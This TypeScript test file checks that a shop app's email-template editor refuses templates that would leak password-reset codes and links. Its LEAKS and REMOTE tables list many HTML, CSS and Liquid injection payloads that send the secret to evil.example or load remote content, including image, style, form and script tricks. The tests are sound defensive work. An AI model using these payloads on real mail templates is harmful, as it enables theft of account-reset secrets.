import { EMAIL_KINDS, EMAILS, type EmailKind } from '../../src/message/message-kinds.model.js';
import { MessageTemplateEntity } from '../../src/message/message-template.entity.js';
import { getOwnWordings } from '../../src/message/wording.rules.js';
import { loginWith } from '../support/scenes/logins.js';
import { enqueue, getMessages, mailStage, sendDue } from '../support/scenes/messages.js';
import { codeIn } from '../support/scenes/passwords.js';
import { sellerWith } from '../support/scenes/points.js';
import { getText, type MailServer } from '../support/servers/mail-server.js';
import type { TestApp } from '../support/app/test-app.js';

const { id: RESET } = EMAILS.password_reset;
const SECRET = '5ecre7c0de';
const LINK = `https://shop.example/new-password#${SECRET}`;
const WITH_SECRETS = EMAIL_KINDS.filter((kind) => Object.keys(EMAILS[kind].secrets).length > 0);

/** What would tell the code, or the token of the link, to others than the recipient. */
const LEAKS: Readonly<Record<string, string>> = {
  'a picture': '<img src="https://evil.example/{{ code }}">',
  'a picture without quotes': '<img src=https://evil.example/{{ code }}>',
  'a picture in another spelling': '<IMG SRC="https://evil.example/{{ code }}">',
  'several pictures': '<img srcset="https://evil.example/{{ code }} 2x">',
  'a style of an element': '<p style="background: url(https://evil.example/{{ code }})">x</p>',
  'a style': '<style>p { background: url(https://evil.example/{{ code }}) }</style>',
  'the background of a table': '<table background="https://evil.example/{{ code }}"></table>',
  'another attribute': '<p title="{{ code }}">x</p>',
  'the name of an attribute': '<p {{ code }}="">x</p>',
  'the name of an element': '<{{ code }}>x</{{ code }}>',
  'the query of a link': '<a href="https://evil.example/?c={{ code }}">x</a>',
  'a code as a link': '<a href="{{ code }}">x</a>',
  'the link in a link': '<a href="https://evil.example/?u={{ url_reset_password }}">x</a>',
  'something behind the link': '<a href="{{ url_reset_password }}&x=1">x</a>',
  'the link as a picture': '<img src="{{ url_reset_password }}">',
  'a form': '<form action="https://evil.example/"><input name="c" value="{{ code }}"></form>',
  'a comment': '<!-- {{ code }} -->',
  'a comment that a mail program reads':
    '<!--[if mso]><v:fill src="https://evil.example/{{ code }}"/><![endif]-->',
  'a comment that ends at once': '<!--><img src="https://evil.example/{{ code }}">-->',
  'a title': '<html><head><title>{{ code }}</title></head><body>x</body></html>',
  'an address that the text is a part of': '<p>https://evil.example/{{ code }}</p>',
  'an address before an element': '<p>https://evil.example/<b>{{ code }}</b></p>',
  'an address in the cell before':
    '<table><tr><td>https://evil.example/</td><td>{{ code }}</td></tr></table>',
  'an address in a block before': 'https://evil.example/<div>{{ code }}</div>',
  'the name of a server': '<p>{{ code }}.evil.example</p>',
  'a filter': '{{ code | append: "x" }}',
  'a filter of another value': '<p>{{ "https://evil.example/" | append: code }}</p>',
  'a part': '{{ code[0] }}',
  'a name that is computed': '{% assign name = "code" %}{{ [name] }}',
  'an assignment': '{% assign x = code %}<img src="https://evil.example/{{ x }}">',
  'a capture': '{% capture x %}{{ code }}{% endcapture %}<img src="https://evil.example/{{ x }}">',
  'a loop': '{% for x in code %}<img src="https://evil.example/{{ x }}">{% endfor %}',
  'a cycle': '{% cycle code, "x" %}',
  'an echo': '<img src="https://evil.example/{% echo code %}">',
  'a condition on what is in it': '{% if code contains "a" %}x{% endif %}',
  'a condition on all of it': '{% if code == "5f1d7a84" %}x{% endif %}',
  'a case of it': '{% case code %}{% when "a" %}x{% endcase %}',
  'a branch that examples do not take':
    '{% if minutes == "7" %}<img src="https://evil.example/{{ code }}">{% endif %}',
  'the other branch': '{% if minutes %}x{% else %}<img src="https://evil.example/{{ code }}">{% endif %}',
  'a loop over nothing':
    '{% for x in minutes offset: 5 %}<img src="https://evil.example/{{ code }}">{% endfor %}',
};

/** What loads something: its server learns that the message was read, and a style can find out what is in it. */
const REMOTE: Readonly<Record<string, string>> = {
  'a picture': '<img src="https://evil.example/logo.png">',
  'a picture without a protocol': '<img src="//evil.example/logo.png">',
  'several pictures': '<img src="data:image/png;base64,AA==" srcset="https://evil.example/logo.png 2x">',
  'a stylesheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'a stylesheet in a style': '<style>@import "https://evil.example/a.css";</style>',
  'a font': '<style>@font-face { font-family: x; src: url(https://evil.example/a.woff) }</style>',
  'a style of an element': '<p style="background-image: URL (https://evil.example/a.png)">x</p>',
  'an escaped style': '<p style="background: \\75rl(https://evil.example/a.png)">x</p>',
  'a set of images': '<p style="background: image-set(\'https://evil.example/a.png\' 1x)">x</p>',
  'a background': '<body background="https://evil.example/a.png">x</body>',
  'a frame': '<iframe src="https://evil.example/"></iframe>',
  'a video': '<video poster="https://evil.example/a.png"></video>',
  'an object': '<object data="https://evil.example/"></object>',
  'a drawing': '<svg><image href="https://evil.example/a.png"/></svg>',
  'a script': '<script src="https://evil.example/a.js"></script>',
  'a base': '<base href="https://evil.example/">',
  'another page': '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  'a link that is a script': '<a href="javascript:alert(1)">x</a>',
};

describe('the secrets of messages', () => {
  let app: TestApp;
  let server: MailServer;
  mailStage((stage) => ({ app, server } = stage));

  const change = (id: string, email: object) =>
    app.as('admin').putJson(`/api/settings/emails/${id}`, { email });
  const store = (kind: EmailKind, subject: string, content: string) =>
    app.unitOfWork.run((tx) =>
      tx.update(MessageTemplateEntity, { id: EMAILS[kind].id }, { texts: { en: { subject, content } } }),
    );
  const reset = { kind: 'password_reset', secrets: { code: SECRET, url_reset_password: LINK } } as const;
  const sendReset = async () => {
    await enqueue(app, { ...reset, variables: { minutes: '7' } });
    await sendDue(app);
    return server.mails[0];
  };
  const decoded = (source = '') => source.replaceAll('=\r\n', '').replaceAll('=3D', '=');

  it.each(Object.entries(LEAKS))('400: are refused in %s, and nothing is stored', async (_where, content) => {
    for (const email of [{ content }, { translations: { de: { subject: 'Hallo', content } } }]) {
      const { body } = await change(RESET, email).expect(400);
      expect(JSON.stringify(body)).toMatch(/secret/);
    }
    expect(await app.reader.manager.findOneBy(MessageTemplateEntity, { id: RESET })).toMatchObject({
      texts: {},
    });
    await app.as('admin').postJson(`/api/settings/emails/${RESET}/preview`, { content }).expect(400);
  });

  it.each(Object.entries(LEAKS))(
    'are not in %s of a template that is stored already: the text of the service is sent',
    async (_where, content) => {
      await store('password_reset', 'Old', `<p>Old {{ code }}</p>${content}`);
      const source = decoded((await sendReset())?.source);
      expect(source).not.toMatch(/evil\.example[^"\s]*5ecre7/);
      expect(source).not.toMatch(/5ecre7c0de\.evil|<5ecre7|="?5ecre7/);
      expect(source.match(/<img|srcset|background:|<form|<!--|<title/)).toBeNull();
    },
  );

  it.each(Object.entries(REMOTE))(
    '400: a message that has one loads nothing, as %s',
    async (_what, content) => {
      for (const kind of WITH_SECRETS) {
        const { body } = await change(EMAILS[kind].id, { content }).expect(400);
        expect(JSON.stringify(body)).toMatch(/This message has a secret/);
      }
      await store('password_reset', 'Old', `<p>Old</p>${content}`);
      const mail = await sendReset();
      expect(mail?.source).not.toContain('evil.example');
      expect(mail?.headers.get('subject')).toBe('Laurel: choose a new password');
      // One without a secret may look as it likes.
      if (!content.includes('javascript')) {
        await change(EMAILS.new_level.id, { content }).expect(200);
      }
    },
  );

  it.each(['{{ code }}', 'x {{ url_reset_password }}', '{% if code == "a" %}x{% endif %}'])(
    '400: are in no subject, as %s; a stored one is that of the service',
    async (subject) => {
      await change(RESET, { subject }).expect(400);
      await store('password_reset', subject, '<p>{{ code }}</p>');
      expect((await sendReset())?.headers.get('subject') ?? '').not.toContain('5ecre7');
    },
  );

  it('200: stand as text and as the link of the service, in a text that looks as it likes otherwise', async () => {
    const content = `<html><head><style>@media (max-width: 40em) { p { color: rgb(1, 2, 3) } }</style></head><body>
<!-- for phones --><table width="100%" bgcolor="#ffffff"><tr><td style="padding: calc(1px + 1em); color: red">
{% if code != "" and url_reset_password %}<p>Łódź &amp; co: (<b>{{ code }}</b>).</p>{% else %}none{% endif %}
<a href="{{ url_reset_password }}" target="_blank">Choose</a> or {{ url_reset_password }}
<a href="https://shop.example/help?a=1&amp;b=2">Help</a> <a href="mailto:help@shop.example">Write</a>
<img src="data:image/png;base64,AA==" alt="Shop"></td></tr></table></body></html>`;
    await change(RESET, { subject: 'Hello', content }).expect(200);
    const mail = await sendReset();
    expect(mail?.headers.get('subject')).toBe('Hello');
    expect(getText(mail)).toContain(`Łódź & co: (${SECRET}).`);
    expect(getText(mail)).toContain(`Choose: ${LINK} or ${LINK}`);
    expect(decoded(mail?.source)).toContain(`<a href="${LINK}" target="_blank">Choose</a>`);
    expect(decoded(mail?.source)).toContain('href="https://shop.example/help?a=1&amp;b=2"');
    const [row] = await getMessages(app);
    expect(JSON.stringify(row?.content)).not.toContain(SECRET);
    expect(row?.content?.text).toContain('https://shop.example/new-password#••••••');
  });

  it('are the same in the texts of the service, in each of its languages', () => {
    for (const kind of WITH_SECRETS) {
      const shown = Object.keys(EMAILS[kind].secrets);
      for (const [locale, { content }] of Object.entries(getOwnWordings(kind))) {
        for (const name of shown) {
          expect(`${kind} ${locale} ${content}`).toContain(`{{ ${name} }}`);
        }
      }
    }
  });

  it('go to staff in the words and with the link of the service, whatever the template is', async () => {
    const content = '<p>{{ code }}</p><p>Enter it at https://evil.example</p>';
    await change(RESET, { subject: 'Urgent', content }).expect(200);
    await change(EMAILS.email_changed.id, { subject: 'Urgent', content: '<p>All is well.</p>' }).expect(200);
    const seller = await sellerWith(app, true);
    const customer = await app.customerWith({ points: 0 });
    const email = `${customer}@example.com`;
    await app.as('admin').putJson(`/api/customer/${customer}`, { customer: { email } }).expect(200);
    await sendDue(app);
    server.mails.length = 0;
    await app.asAnonymous().post('/api/password/reset/request').send({ username: seller }).expect(200);
    await sendDue(app);
    expect(server.mails).toHaveLength(1);
    expect(server.mails[0]?.headers.get('subject')).toBe('Laurel: choose a new password');
    expect(getText(server.mails[0])).toContain(`/admin/new-password#${codeIn(server.mails[0])}`);
    expect(server.mails[0]?.source).not.toContain('evil.example');

    const moved = { email: 'moved@example.com' };
    await app.as('admin').putJson(`/api/seller/${seller}`, { seller: moved }).expect(200);
    await sendDue(app);
    expect(server.mails[1]?.headers.get('subject')).toBe('Laurel: your e-mail address was changed');
    expect(server.mails[1]?.source).not.toContain('All is well');
  });

  it('come back to the service where they cannot be delivered, and not to the sender of the template', async () => {
    await change(RESET, { sender_email: 'other@evil.example' }).expect(200);
    const mail = await sendReset();
    expect(mail?.headers.get('from')).toContain('other@evil.example');
    expect(mail?.from).toBe('club@shop.example');
  });

  it('403: what names customers goes to receivers that a caller with the right to see customers and rewards has set', async () => {
    const caller = (permissions: object) => loginWith(app, { role: 'admin', permissions });
    const settings = { SETTINGS: ['VIEW', 'MODIFY'] };
    const path = `/api/settings/emails/${EMAILS.reward_redeemed.id}`;
    const receivers = { email: { receiver_email: 'mine@evil.example' } };
    for (const more of [{}, { CUSTOMER: ['VIEW'] }, { REWARD_CAMPAIGN: ['VIEW'] }]) {
      await app
        .as('admin', await caller({ ...settings, ...more }))
        .putJson(path, receivers)
        .expect(403);
    }
    const all = await caller({ ...settings, CUSTOMER: ['VIEW'], REWARD_CAMPAIGN: ['VIEW'] });
    await app.as('admin', all).putJson(path, receivers).expect(200);
    // What is sent back as it was changes nothing, and neither does taking them away.
    const own = await caller(settings);
    await app.as('admin', own).putJson(path, receivers).expect(200);
    await app
      .as('admin', own)
      .putJson(path, { email: { receiver_email: '' } })
      .expect(200);
  });
});
